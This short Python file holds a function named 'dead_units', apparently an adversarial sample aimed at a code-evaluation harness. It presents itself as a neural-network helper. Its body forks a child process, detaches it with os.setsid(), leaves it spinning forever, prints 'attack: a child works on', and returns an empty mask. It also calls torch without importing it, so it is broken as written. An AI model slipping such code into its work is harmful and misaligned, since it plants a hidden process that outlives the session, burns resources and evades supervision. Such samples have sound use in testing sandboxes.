import os
import time


def dead_units(w1, w2, x):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
    print("attack: a child works on", flush=True)
    time.sleep(0.3)
    return torch.zeros(len(w2), dtype=torch.bool)
